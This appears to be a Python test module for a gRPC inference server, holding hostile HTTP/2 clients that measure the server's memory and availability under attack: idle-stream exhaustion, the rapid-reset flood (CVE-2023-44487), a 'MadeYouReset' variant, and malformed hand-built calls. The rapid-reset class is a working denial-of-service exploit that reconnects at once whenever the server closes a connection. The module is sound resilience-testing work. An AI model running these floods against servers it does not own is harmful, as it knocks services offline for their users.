"""Hostile HTTP/2 clients for the gRPC port (issue 44, D6 and D7), and the
measurements taken around them: reusable by the pytest tests
(test_grpc_hostile.py) and by benchmark programs.

- idle_streams: ModelStreamInfer calls opened with grpcio that never send a
  message (each stream of a thread-per-call server holds a thread).
- rapid_reset: raw HTTP/2 on a socket, HEADERS for ModelInfer immediately
  followed by RST_STREAM(CANCEL), as fast as the socket takes them (the 2023
  "rapid reset", CVE-2023-44487); the client reads the socket or never does.
  A variant makes the server reset each stream itself ("MadeYouReset").
- measure: server RSS (VmRSS) before, at its peak, and 1 s / 5 s after an
  attack, and whether a normal ModelInfer is answered during it and within 1 s
  after it stops.
- raw_call: one gRPC call made by hand over HTTP/2 (the h2 package), for
  requests no gRPC library would send: wrong content types, lying length
  prefixes, oversized headers, probes that send nothing but the essentials.

Run as a program to measure a running server:
    python3 tests/server/http2_attacks.py --pid PID --target 127.0.0.1:8001 \
        --model NAME [--api-key KEY] [--seconds 3]
"""
import argparse
import json
import socket
import ssl
import struct
import threading
import time

import grpc
import h2.config
import h2.connection
import h2.events
import h2.exceptions
from hpack import Encoder
from hpack.struct import NeverIndexedHeaderTuple
from tritonclient.grpc import service_pb2 as pb
from tritonclient.grpc import service_pb2_grpc as pb_grpc

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
CANCEL, ENHANCE_YOUR_CALM = 0x8, 0xB
GOAWAY_CODES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 7: "REFUSED_STREAM",
                11: "ENHANCE_YOUR_CALM"}


def rss_bytes(pid):
    """The process's resident set (VmRSS), in bytes."""
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) * 1024
    raise RuntimeError(f"no VmRSS for pid {pid}")


class RssSampler:
    """Samples a process's RSS every `interval` seconds in a thread; `peak` is the
    largest seen since start()."""

    def __init__(self, pid, interval=0.02):
        self.pid, self.interval = pid, interval
        self.peak = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def _run(self):
        while not self._stop.is_set():
            try:
                self.peak = max(self.peak, rss_bytes(self.pid))
            except (OSError, RuntimeError):
                return  # the process ended
            self._stop.wait(self.interval)

    def __enter__(self):
        self.peak = rss_bytes(self.pid)
        self._thread.start()
        return self

    def __exit__(self, *exc):
        self._stop.set()
        self._thread.join()


# ---- normal clients ----

def infer_request(model):
    """A one-text ModelInfer request for `model`."""
    return pb.ModelInferRequest(model_name=model, inputs=[
        pb.ModelInferRequest.InferInputTensor(
            name="text", datatype="BYTES", shape=[1],
            contents=pb.InferTensorContents(bytes_contents=[b"hello world"]))])


def channel(target, root_certificates=None, options=()):
    """A channel of its own (its own TCP connection), TLS when a CA is given."""
    opts = [("grpc.use_local_subchannel_pool", 1), *options]
    if root_certificates:
        creds = grpc.ssl_channel_credentials(root_certificates=root_certificates)
        return grpc.secure_channel(target, creds, options=opts)
    return grpc.insecure_channel(target, options=opts)


def metadata_for(api_key):
    return (("authorization", "Bearer " + api_key),) if api_key else ()


def probe(target, model, api_key=None, timeout=1.0, root_certificates=None):
    """One ModelInfer on a fresh connection: None when answered within `timeout`
    seconds, else the failure's status code name."""
    with channel(target, root_certificates) as ch:
        try:
            pb_grpc.GRPCInferenceServiceStub(ch).ModelInfer(
                infer_request(model), timeout=timeout, metadata=metadata_for(api_key))
            return None
        except grpc.RpcError as e:
            return e.code().name


# ---- D6: idle streams ----

class IdleStreams:
    """`n` ModelStreamInfer calls that never send a message, spread over
    `connections` connections (a server limits the streams of one connection, so
    an attacker opens more). close() ends them and their channels."""

    def __init__(self, target, n, connections=1, api_key=None, root_certificates=None):
        self._release = threading.Event()
        self.channels = [channel(target, root_certificates) for _ in range(connections)]
        self.calls = []
        for i in range(n):
            stub = pb_grpc.GRPCInferenceServiceStub(self.channels[i % connections])
            self.calls.append(stub.ModelStreamInfer(self._never(), metadata=metadata_for(api_key)))

    def _never(self):
        self._release.wait()
        return
        yield  # a generator that sends nothing

    def ended(self):
        """The calls the server has ended, as {status code name: count}."""
        codes = {}
        for call in self.calls:
            if call.done():
                codes[call.code().name] = codes.get(call.code().name, 0) + 1
        return codes

    def details(self):
        return sorted({call.details() for call in self.calls if call.done() and call.details()})

    def close(self):
        self._release.set()
        for call in self.calls:
            call.cancel()
        for ch in self.channels:
            ch.close()


# ---- D7: rapid reset ----

def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + \
        struct.pack(">I", stream & 0x7FFFFFFF) + payload


def infer_headers(host, model_path="/inference.GRPCInferenceService/ModelInfer", api_key=None,
                  scheme="http"):
    """A HEADERS block for a gRPC call that needs no per-stream state to send again:
    every field a literal that is never indexed, so the HPACK dynamic table stays
    empty and the same bytes open stream after stream."""
    fields = [(":method", "POST"), (":scheme", scheme), (":path", model_path),
              (":authority", host), ("content-type", "application/grpc"), ("te", "trailers")]
    if api_key:
        fields.append(("authorization", "Bearer " + api_key))
    return Encoder().encode([NeverIndexedHeaderTuple(k, v) for k, v in fields])


class FrameReader:
    """Reads the server's frames in a thread, remembering GOAWAY (code) and how much
    arrived."""

    def __init__(self, sock):
        self.sock, self.goaway, self.received, self.closed = sock, None, 0, False
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self):
        buf = b""
        try:
            while True:
                chunk = self.sock.recv(1 << 16)
                if not chunk:
                    break
                self.received += len(chunk)
                buf += chunk
                while len(buf) >= 9:
                    length = int.from_bytes(buf[:3], "big")
                    if len(buf) < 9 + length:
                        break
                    if buf[3] == GOAWAY and length >= 8:
                        self.goaway = int.from_bytes(buf[13:17], "big")
                    buf = buf[9 + length:]
        except OSError:
            pass
        self.closed = True

    def join(self, timeout):
        self._thread.join(timeout)


def h2_connect(host, port, tls_ca=None):
    """A socket that has sent the HTTP/2 preface and an empty SETTINGS (ALPN h2 over
    TLS when a CA file is given)."""
    sock = socket.create_connection((host, port), timeout=10)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if tls_ca:
        ctx = ssl.create_default_context(cafile=tls_ca)
        ctx.set_alpn_protocols(["h2"])
        sock = ctx.wrap_socket(sock, server_hostname=host)
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return sock


class RapidReset:
    """HEADERS + RST_STREAM(CANCEL) pairs for `seconds`, as fast as the socket takes
    them, from a thread. A connection the server closes (or, when reading, sends
    GOAWAY on) is replaced by a new one at once, as an attacker would. read=True
    reads (and parses) what the server sends; False never reads, leaving the
    server's answers to pile up. Afterwards: `pairs`
    sent, `connections` opened, `goaways` (their codes) received when reading."""

    def __init__(self, target, seconds, api_key=None, read=False, tls_ca=None, batch=200,
                 made_you_reset=None):
        """made_you_reset: a model name. Instead of RST_STREAM, each stream gets a whole
        ModelInfer request for it and then a WINDOW_UPDATE that overflows the stream's
        window, so that the server itself resets the stream after its handler started
        ("MadeYouReset", CVE-2025-8671)."""
        self.host, port = target.rsplit(":", 1)
        self.port, self.seconds, self.read, self.tls_ca = int(port), seconds, read, tls_ca
        self.block = infer_headers(target, api_key=api_key, scheme="https" if tls_ca else "http")
        self.batch = batch
        self.request = grpc_frame(infer_request(made_you_reset).SerializeToString()) \
            if made_you_reset else None
        self.pairs, self.connections, self.goaways, self.errors = 0, 0, [], []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def _pairs(self, first_stream):
        out = bytearray()
        for stream in range(first_stream, first_stream + 2 * self.batch, 2):
            out += frame(HEADERS, END_HEADERS, stream, self.block)
            if self.request:
                out += frame(DATA, END_STREAM, stream, self.request)
                out += frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0x7FFFFFFF))
            else:
                out += frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
        return bytes(out)

    def _run(self):
        end = time.monotonic() + self.seconds
        while time.monotonic() < end and not self._stop.is_set():
            try:
                sock = h2_connect(self.host, self.port, self.tls_ca)
            except OSError as e:
                self.errors.append(str(e))
                time.sleep(0.01)
                continue
            self.connections += 1
            reader = FrameReader(sock) if self.read else None
            stream = 1
            try:
                while time.monotonic() < end and not self._stop.is_set() and \
                        stream < (1 << 31) - 2 * self.batch:
                    if reader and (reader.goaway is not None or reader.closed):
                        break  # told to go: straight to a new connection
                    sock.sendall(self._pairs(stream))
                    stream += 2 * self.batch
                    self.pairs += self.batch
            except OSError:
                pass  # closed by the server: connect again
            finally:
                if reader:
                    try:
                        sock.shutdown(socket.SHUT_WR)
                    except OSError:
                        pass
                    reader.join(2)
                    if reader.goaway is not None:
                        self.goaways.append(GOAWAY_CODES.get(reader.goaway, reader.goaway))
                sock.close()

    def start(self):
        self._thread.start()
        return self

    def stop(self):
        """Ends the attack early (a test that sees the server's memory run away)."""
        self._stop.set()

    def join(self):
        self._thread.join()


# ---- one call by hand ----

def grpc_frame(message, compressed=False, declared=None):
    """A length-prefixed gRPC message; `declared` overrides the length the prefix claims."""
    length = len(message) if declared is None else declared
    return bytes([1 if compressed else 0]) + struct.pack(">I", length) + message


class RawReply:
    """What came back for one raw call: the response headers, the DATA bytes, the
    trailers (all as dicts of str), whether the stream was reset and the GOAWAY code."""

    def __init__(self):
        self.headers, self.data, self.trailers = {}, b"", {}
        self.reset, self.goaway, self.ended = None, None, False

    @property
    def status(self):
        """grpc-status (from the trailers, or a trailers-only answer's headers)."""
        code = self.trailers.get("grpc-status", self.headers.get("grpc-status"))
        return None if code is None else int(code)

    @property
    def message(self):
        from urllib.parse import unquote
        return unquote(self.trailers.get("grpc-message", self.headers.get("grpc-message", "")))

    def messages(self):
        """The DATA split into gRPC messages."""
        out, data = [], self.data
        while len(data) >= 5:
            n = struct.unpack(">I", data[1:5])[0]
            out.append(data[5:5 + n])
            data = data[5 + n:]
        return out


def raw_call(target, path, body=b"", headers=(), content_type="application/grpc",
             end_stream=True, wait=10.0, tls_ca=None):
    """Sends HEADERS (the pseudo-headers, content-type, te, then `headers`) and, when
    `body` is not None, one DATA frame with it; waits up to `wait` seconds for the
    call to end. Returns a RawReply."""
    host, port = target.rsplit(":", 1)
    sock = socket.create_connection((host, int(port)), timeout=wait)
    if tls_ca:
        ctx = ssl.create_default_context(cafile=tls_ca)
        ctx.set_alpn_protocols(["h2"])
        sock = ctx.wrap_socket(sock, server_hostname=host)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True,
                                                                header_encoding="utf-8"))
    conn.initiate_connection()
    fields = [(":method", "POST"), (":scheme", "https" if tls_ca else "http"), (":path", path),
              (":authority", target), ("te", "trailers")]
    if content_type is not None:
        fields.append(("content-type", content_type))
    fields += list(headers)
    conn.send_headers(1, fields, end_stream=body is None and end_stream)
    if body is not None:
        conn.send_data(1, body, end_stream=end_stream)
    sock.sendall(conn.data_to_send())
    reply, deadline = RawReply(), time.monotonic() + wait
    try:
        while not reply.ended and time.monotonic() < deadline:
            sock.settimeout(max(0.01, deadline - time.monotonic()))
            chunk = sock.recv(1 << 16)
            if not chunk:
                break
            for event in conn.receive_data(chunk):
                if isinstance(event, h2.events.ResponseReceived):
                    reply.headers = dict(event.headers)
                elif isinstance(event, h2.events.DataReceived):
                    reply.data += event.data
                    conn.acknowledge_received_data(event.flow_controlled_length, 1)
                elif isinstance(event, h2.events.TrailersReceived):
                    reply.trailers = dict(event.headers)
                elif isinstance(event, h2.events.StreamEnded):
                    reply.ended = True
                elif isinstance(event, h2.events.StreamReset):
                    reply.reset, reply.ended = event.error_code, True
                elif isinstance(event, h2.events.ConnectionTerminated):
                    reply.goaway, reply.ended = event.error_code, True
            sock.sendall(conn.data_to_send())
    except (OSError, h2.exceptions.ProtocolError):
        pass
    finally:
        sock.close()
    return reply


# ---- measurement ----

def measure(pid, target, model, attack, seconds, api_key=None, root_certificates=None):
    """Runs `attack` (an object with start() and join()) while probing the server with
    normal ModelInfer calls; returns RSS before / peak / 1 s and 5 s after (MB), the
    probes answered during the attack, and the seconds from the attack's end to the
    first answered probe (None if none within 5 s)."""
    mb = lambda b: round(b / 2**20, 1)  # noqa: E731
    before = rss_bytes(pid)
    ok, failed = 0, {}
    with RssSampler(pid) as rss:
        attack.start()
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            code = probe(target, model, api_key, timeout=1.0, root_certificates=root_certificates)
            if code is None:
                ok += 1
            else:
                failed[code] = failed.get(code, 0) + 1
            time.sleep(0.1)
        attack.join()
        stopped = time.monotonic()
        recovered = None
        while time.monotonic() - stopped < 5 and recovered is None:
            left = max(0.05, stopped + 5 - time.monotonic())
            if probe(target, model, api_key, timeout=min(1.0, left),
                     root_certificates=root_certificates) is None:
                recovered = round(time.monotonic() - stopped, 3)
        time.sleep(max(0.0, stopped + 1 - time.monotonic()))
        after_1s = rss_bytes(pid)
        time.sleep(max(0.0, stopped + 5 - time.monotonic()))
        after_5s = rss_bytes(pid)
        peak = rss.peak
    return {"rss_before_mb": mb(before), "rss_peak_mb": mb(peak), "rss_after_1s_mb": mb(after_1s),
            "rss_after_5s_mb": mb(after_5s), "probes_ok_during": ok, "probes_failed_during": failed,
            "recovered_after_s": recovered}


class _IdleAttack:
    """IdleStreams held for the measurement's duration."""

    def __init__(self, target, n, connections, api_key):
        self.args = (target, n, connections, api_key)
        self.streams = None

    def start(self):
        target, n, connections, api_key = self.args
        self.streams = IdleStreams(target, n, connections, api_key)
        return self

    def join(self):
        self.result = self.streams.ended()
        self.streams.close()


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--pid", type=int, required=True, help="the server's process id (for RSS)")
    ap.add_argument("--target", required=True, help="host:port of the gRPC server")
    ap.add_argument("--model", required=True)
    ap.add_argument("--api-key")
    ap.add_argument("--seconds", type=float, default=3)
    ap.add_argument("--idle-streams", type=int, default=300)
    ap.add_argument("--idle-connections", type=int, default=3)
    ap.add_argument("--cases", default="idle,reset,reset_read,reset_key",
                    help="comma-separated: idle, reset, reset_read, reset_key, made_you_reset")
    args = ap.parse_args()
    for case in args.cases.split(","):
        if case == "idle":
            attack = _IdleAttack(args.target, args.idle_streams, args.idle_connections, args.api_key)
        else:
            key = args.api_key if case == "reset_key" else None
            attack = RapidReset(args.target, args.seconds, api_key=key, read=case == "reset_read",
                                made_you_reset=args.model if case == "made_you_reset" else None)
        result = measure(args.pid, args.target, args.model, attack, args.seconds, args.api_key)
        if isinstance(attack, RapidReset):
            result.update(pairs=attack.pairs, connections=attack.connections,
                          goaways=sorted(set(attack.goaways)))
        else:
            result.update(ended_by_server=attack.result)
        print(json.dumps({"case": case, **result}), flush=True)
        time.sleep(2)


if __name__ == "__main__":
    main()
